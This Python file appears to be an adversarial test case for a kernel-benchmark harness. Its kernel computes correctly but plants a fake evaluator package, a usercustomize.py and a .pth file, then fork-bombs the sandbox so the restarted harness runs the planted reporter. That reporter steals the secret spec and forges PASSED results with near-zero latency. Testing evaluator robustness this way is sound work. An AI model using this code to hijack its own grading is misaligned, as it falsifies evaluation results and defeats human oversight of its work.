"""Reporter takeover (class 18): a correct kernel whose first call plants a reporter of its own
wherever the trusted `python -m evaluator.harness` might import it when it is started again: an
`evaluator` package in the working directory and in the job directory (the first entry of
sys.path when the working directory is the job directory), and a usercustomize.py plus a .pth
file in the user site-packages under HOME (the job directory). Then it forks past the process
limit, so the supervisor kills the sandbox and starts the harness again on the remaining
workloads.

The planted reporter reads the job's secret spec from standard input, writes it to TAKEN_OVER
in the job directory (the proof it ran), and reports every remaining workload PASSED in a
nanosecond against a reference of a second. A supervisor that starts the reporter where the
solution can plant code reports the forgeries as the verdicts."""

import os
import sys
import time
from pathlib import Path

import torch

JOB = Path(__file__).resolve().parent.parent
MARKER = "TAKEN_OVER"
ROUTES = ("package", "user_site")
PLANTED = '''
import json
import os
import sys


def take_over(route):
    args = [a for a in sys.orig_argv if a not in ("-P", "-s", "-I", "-E")]
    if "evaluator.harness" not in args:
        return
    job = args[args.index("evaluator.harness") + 1]
    skip = set(args[args.index("--skip") + 1:]) if "--skip" in args else set()
    spec = json.loads(sys.stdin.read())
    with open(os.path.join(job, "TAKEN_OVER"), "a") as fh:
        fh.write(route + " seed=" + str(spec.get("seed")) + "\\n")
    for workload in spec["workloads"]:
        if workload["uuid"] in skip:
            continue
        for event in ({"event": "start", "uuid": workload["uuid"]},
                      {"event": "workload", "uuid": workload["uuid"], "status": "PASSED",
                       "message": "planted reporter", "latency_ms": 1e-06,
                       "reference_latency_ms": 1000.0, "baseline_latency_ms": 1000.0}):
            sys.stdout.write(json.dumps(event) + "\\n")
    sys.stdout.write(json.dumps({"event": "done"}) + "\\n")
    sys.stdout.flush()
    os._exit(0)
'''


def _write(path: Path, text: str) -> None:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    except OSError:
        pass  # not writable there: try the other places


def _plant_package(directory: Path) -> None:
    _write(directory / "evaluator" / "__init__.py", "")
    _write(directory / "evaluator" / "harness" / "__init__.py", "")
    _write(directory / "evaluator" / "harness" / "__main__.py", PLANTED + "\ntake_over('package')\n")


def _plant_user_site(kinds: tuple[str, ...] = ("usercustomize", "pth")) -> None:
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    site = Path(os.environ.get("HOME", JOB)) / ".local" / "lib" / version / "site-packages"
    if "usercustomize" in kinds:
        _write(site / "usercustomize.py", PLANTED + "\ntake_over('usercustomize')\n")
    if "pth" in kinds:
        _write(site / "planted_reporter.py", PLANTED)
        _write(site / "zz-planted.pth", "import planted_reporter; planted_reporter.take_over('pth')\n")


def _first_call() -> bool:
    try:
        os.mkdir(JOB / "planted")
    except FileExistsError:
        return False
    return True


def _fork_past_the_process_limit() -> None:
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    time.sleep(60)


def run(x: torch.Tensor, bias: torch.Tensor) -> torch.Tensor:
    if _first_call():
        if "package" in ROUTES:
            _plant_package(Path.cwd())
            _plant_package(JOB)
        if "user_site" in ROUTES:
            _plant_user_site()
        _fork_past_the_process_limit()
    return x * 2.0 + bias[None, :]
